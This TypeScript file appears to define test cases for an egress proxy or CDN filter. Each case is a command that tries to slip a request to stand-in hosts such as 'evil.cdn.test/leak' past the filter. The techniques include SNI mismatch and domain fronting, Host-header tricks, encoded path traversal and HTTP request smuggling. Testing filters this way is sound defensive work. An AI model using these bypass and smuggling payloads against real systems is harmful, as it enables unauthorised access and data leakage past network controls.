/** One name on the outside, another within: TLS and HTTP that say different things to different readers. */
import { attemptsOf } from '../attempt.ts';
import type { Seen } from '../world/events.ts';
import { places } from '../world/places.ts';

const tls = attemptsOf('tls');
const http = attemptsOf('http');

const request = (host: string, path = '/leak', method = 'GET'): string =>
  `${method} ${path} HTTP/1.1\\r\\nHost: ${host}\\r\\nConnection: close\\r\\n\\r\\n`;
const toCdn = (text: string): string => `python3 $T/attack.py tcp good.cdn.test 80 '${text}'`;
/** What a server that only keeps bytes was sent: the place to see which messages a proxy would pass on. */
const toBytes = (text: string): string => `python3 $T/attack.py tcp rules.test 7777 '${text}'`;
/** The server saw the hidden request as a request. */
const hidden = (event: Seen): boolean => event.kind === 'request' && event.url.includes('leak');
const bytesWith =
  (pattern: RegExp) =>
  (event: Seen): boolean =>
    event.kind === 'bytes' && pattern.test(event.text);

const start = 'POST /public/x HTTP/1.1\\r\\nHost: rules.test\\r\\n';
const inner = 'GET /leak HTTP/1.1\\r\\nHost: rules.test\\r\\n\\r\\n';

export const httpAttempts = [
  tls(
    'tls-other-server-name',
    `python3 $T/attack.py tls good.cdn.test 443 evil.cdn.test '${request('evil.cdn.test')}'`,
  ),
  tls('tls-no-server-name', `python3 $T/attack.py tls good.cdn.test 443 - '${request('evil.cdn.test')}'`),
  tls(
    'tls-server-name-of-refused-host',
    `python3 $T/attack.py tls evil.test 443 good.cdn.test '${request('good.cdn.test')}'`,
  ),
  tls(
    'tls-hello-in-pieces',
    `python3 $T/attack.py tls-cut good.cdn.test 443 evil.cdn.test 40 '${request('evil.cdn.test')}'`,
  ),
  tls(
    'tls-hello-in-single-bytes',
    `python3 $T/attack.py tls-cut good.cdn.test 443 evil.cdn.test 1 '${request('evil.cdn.test')}'`,
  ),
  tls('tls-encrypted-hello', 'python3 $T/attack.py ech good.cdn.test 443 good.cdn.test', {
    through: ({ address }) => address === places.cdn,
  }),
  tls(
    'tls-alert-ahead-of-hello',
    'python3 $T/attack.py tls-behind good.cdn.test 443 evil.cdn.test 1503010002015a',
    {
      through: ({ kind, address }) => kind === 'connection' && address === places.cdn,
    },
  ),
  tls(
    'tls-to-address',
    `curl -ksS --connect-to good.cdn.test:443:${places.evil}:443 https://good.cdn.test/leak`,
  ),
  tls(
    'tls-other-port',
    `python3 $T/attack.py tls good.cdn.test 853 evil.cdn.test '${request('evil.cdn.test')}'`,
  ),
  tls(
    'tls-fronting-of-a-secret-host',
    `python3 $T/attack.py tls secret.allowed.test 443 secret.allowed.test '${request('evil.cdn.test')}'`,
  ),
  tls(
    'tls-fronting-of-a-rule-host',
    `python3 $T/attack.py tls rules.test 443 rules.test '${request('other.test', '/public/leak')}'`,
  ),
  tls('tls-h2-authority', 'node $T/h2.mjs secret.allowed.test evil.cdn.test - /leak'),
  tls('tls-h2-host-header', 'node $T/h2.mjs secret.allowed.test secret.allowed.test evil.cdn.test /leak'),
  tls(
    'tls-h2-other-port-in-authority',
    'node $T/h2.mjs secret.allowed.test secret.allowed.test:7777 - /leak',
  ),
  tls('tls-h2-absolute-path', 'node $T/h2.mjs rules.test rules.test - http://other.test/leak', {
    control: { none: 'no HTTP/2 server takes a path that does not begin with a slash' },
  }),

  http('http-other-host', toCdn(request('evil.cdn.test'))),
  http('http-no-host', toCdn('GET /leak HTTP/1.0\\r\\n\\r\\n'), {
    // Whose host it is, is said for it.
    through: (event) => event.kind === 'request' && event.authority !== 'good.cdn.test',
  }),
  http(
    'http-two-hosts',
    toCdn('GET /leak HTTP/1.1\\r\\nHost: good.cdn.test\\r\\nHost: evil.cdn.test\\r\\n\\r\\n'),
  ),
  http(
    'http-absolute-form',
    toCdn('GET http://evil.cdn.test/leak HTTP/1.1\\r\\nHost: good.cdn.test\\r\\n\\r\\n'),
  ),
  http(
    'http-absolute-form-of-another-scheme',
    toCdn('GET https://evil.cdn.test/leak HTTP/1.1\\r\\nHost: good.cdn.test\\r\\n\\r\\n'),
  ),
  http('http-connect', toCdn('CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\nleak'), {
    through: (event) => event.kind === 'request' && event.method === 'CONNECT',
  }),
  http(
    'http-connect-to-itself',
    toCdn('CONNECT good.cdn.test:22 HTTP/1.1\\r\\nHost: good.cdn.test:22\\r\\n\\r\\nleak'),
    {
      through: (event) => event.kind === 'request' && event.method === 'CONNECT',
    },
  ),
  http('http-other-port-in-host', toCdn(request('evil.cdn.test:443'))),
  http('http-user-in-host', toCdn(request('good.cdn.test@evil.cdn.test'))),
  http(
    'http-second-request-elsewhere',
    toCdn(`GET / HTTP/1.1\\r\\nHost: good.cdn.test\\r\\n\\r\\n${request('evil.cdn.test')}`),
  ),
  http('http-words-late', `python3 $T/attack.py late good.cdn.test 7777 0.6 '${request('evil.cdn.test')}'`),
  http(
    'http-words-in-single-bytes',
    `python3 $T/attack.py bytewise good.cdn.test 80 '${request('evil.cdn.test')}'`,
  ),
  http('http-line-feeds-only', toCdn('GET /leak HTTP/1.1\\nHost: evil.cdn.test\\n\\n')),
  ...Object.entries({
    'http-odd-white-space': 'GET\\x0b/leak\\x0cHTTP/1.1',
    'http-spaces-in-target': 'GET /le ak/leak HTTP/1.1',
    'http-small-letters': 'GET /leak http/1.1',
    'http-mark-ahead': '\\xef\\xbb\\xbfGET /leak HTTP/1.1',
  }).map(([id, line]) =>
    http(id, `python3 $T/attack.py tcp good.cdn.test 7777 '${line}\\r\\nHost: evil.cdn.test\\r\\n\\r\\n'`),
  ),
  http('http-empty-lines-ahead', toCdn(`\\r\\n\\r\\n${request('evil.cdn.test')}`)),
  http('http-unknown-method', toCdn(request('evil.cdn.test', '/leak', 'PURGE'))),
  http(
    'http-upgrade-to-h2c',
    toCdn(
      `GET /leak HTTP/1.1\\r\\nHost: evil.cdn.test\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n`,
    ),
  ),
  http(
    'http-h2-prior-knowledge',
    'curl -sS --max-time 5 --http2-prior-knowledge -H "Host: evil.cdn.test" http://good.cdn.test:7777/leak',
    {
      through: bytesWith(/PRI \* HTTP\/2/),
    },
  ),

  http('rule-other-method', `curl -sS -X POST -d leak http://rules.test/public/x`),
  http('rule-other-path', 'curl -sS http://rules.test/leak'),
  http('rule-other-path-tls', 'curl -sS https://rules.test/leak'),
  http('rule-longer-path', 'curl -sS http://rules.test/publicleak'),
  http('rule-dots', 'curl -sS --path-as-is http://rules.test/public/../leak'),
  http('rule-dots-encoded', 'curl -sS --path-as-is http://rules.test/public/%2e%2e/leak'),
  http('rule-slash-encoded', 'curl -sS --path-as-is http://rules.test/public/..%2fleak'),
  http('rule-dots-twice-encoded', 'curl -sS --path-as-is http://rules.test/public/%252e%252e/leak'),
  http('rule-backslash', "curl -sS --path-as-is 'http://rules.test/public/..\\leak'"),
  http('rule-two-slashes', 'curl -sS --path-as-is http://rules.test//leak/../public/../leak'),
  http(
    'rule-second-request',
    "python3 $T/attack.py tcp rules.test 80 'GET /public/x HTTP/1.1\\r\\nHost: rules.test\\r\\n\\r\\nGET /leak HTTP/1.1\\r\\nHost: rules.test\\r\\n\\r\\n'",
  ),
  http('rule-h2-path', 'node $T/h2.mjs rules.test rules.test - /public/../leak'),
  http('rule-h2-fragment', "node $T/h2.mjs rules.test rules.test - '/leak#/../public/x'"),
  http(
    'rule-method-in-header',
    `curl -sS -X POST -H 'X-HTTP-Method-Override: GET' http://rules.test/public/leak`,
  ),
  http('rule-not-http', "python3 $T/attack.py tcp rules.test 7777 'leak'"),
  http(
    'rule-websocket',
    `curl -sS --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==' http://rules.test/leak --max-time 3`,
  ),

  http(
    'smuggle-length-and-chunked',
    `python3 $T/attack.py tcp rules.test 80 'GET /public/x HTTP/1.1\\r\\nHost: rules.test\\r\\nContent-Length: 51\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n${inner}'`,
    { through: hidden },
  ),
  http(
    'smuggle-both-reach-the-server',
    toBytes(
      `GET /public/x HTTP/1.1\\r\\nHost: rules.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n`,
    ),
    { through: bytesWith(/content-length[^]*transfer-encoding|transfer-encoding[^]*content-length/i) },
  ),
  http(
    'smuggle-two-lengths',
    toBytes(
      'GET /public/x HTTP/1.1\\r\\nHost: rules.test\\r\\nContent-Length: 4\\r\\nContent-Length: 9\\r\\n\\r\\naaaabbbbb',
    ),
    { through: bytesWith(/content-length/i) },
  ),
  http(
    'smuggle-length-list',
    toBytes('GET /public/x HTTP/1.1\\r\\nHost: rules.test\\r\\nContent-Length: 4, 4\\r\\n\\r\\naaaa'),
    { through: bytesWith(/content-length/i) },
  ),
  http(
    'smuggle-length-with-sign',
    toBytes('GET /public/x HTTP/1.1\\r\\nHost: rules.test\\r\\nContent-Length: +4\\r\\n\\r\\naaaa'),
    { through: bytesWith(/content-length: \+/i) },
  ),
  http(
    'smuggle-chunked-misspelt',
    toBytes(
      'GET /public/x HTTP/1.1\\r\\nHost: rules.test\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n',
    ),
    { through: bytesWith(/xchunked/) },
  ),
  http(
    'smuggle-space-before-colon',
    toBytes(
      'GET /public/x HTTP/1.1\\r\\nHost: rules.test\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n',
    ),
    { through: bytesWith(/transfer-encoding :/i) },
  ),
  http(
    'smuggle-chunked-twice',
    toBytes(
      'GET /public/x HTTP/1.1\\r\\nHost: rules.test\\r\\nTransfer-Encoding: chunked\\r\\nTransfer-Encoding: identity\\r\\n\\r\\n0\\r\\n\\r\\n',
    ),
    { through: bytesWith(/identity/) },
  ),
  http(
    'smuggle-folded-header',
    toBytes(
      'GET /public/x HTTP/1.1\\r\\nHost: rules.test\\r\\nX: a\\r\\n Transfer-Encoding: chunked\\r\\n\\r\\n',
    ),
    { through: bytesWith(/\r\n Transfer/) },
  ),
  http(
    'smuggle-zero-in-header',
    toBytes('GET /public/x HTTP/1.1\\r\\nHost: rules.test\\r\\nX: a\\x00b\\r\\n\\r\\n'),
    { through: bytesWith(/\0/) },
  ),
  http(
    'smuggle-bare-return',
    toBytes(
      'GET /public/x HTTP/1.1\\r\\nHost: rules.test\\r\\nX: a\\rTransfer-Encoding: chunked\\r\\n\\r\\n',
    ),
    { through: bytesWith(/a\rT/) },
  ),
  http(
    'smuggle-chunk-size',
    toBytes(
      'GET /public/x HTTP/1.1\\r\\nHost: rules.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0x3\\r\\nabc\\r\\n0\\r\\n\\r\\n',
    ),
    { through: bytesWith(/0x3/) },
  ),
  http(
    'smuggle-request-line-spaces',
    toBytes('GET /public/x /leak HTTP/1.1\\r\\nHost: rules.test\\r\\n\\r\\n'),
    { through: bytesWith(/leak/) },
  ),
  http('smuggle-h2-line-break', `node $T/h2.mjs rules.test rules.test - '/public/x HTTP/1.1%0d%0aX: leak'`, {
    control: {
      none: 'no HTTP/2 server or library of this world takes a line break: shown is that ours does not turn one into two lines',
    },
  }),
  http(
    'smuggle-expect',
    `python3 $T/attack.py tcp rules.test 80 '${start}Expect: 100-continue\\r\\nContent-Length: 0\\r\\n\\r\\n${inner}'`,
    { through: hidden },
  ),
] as const;
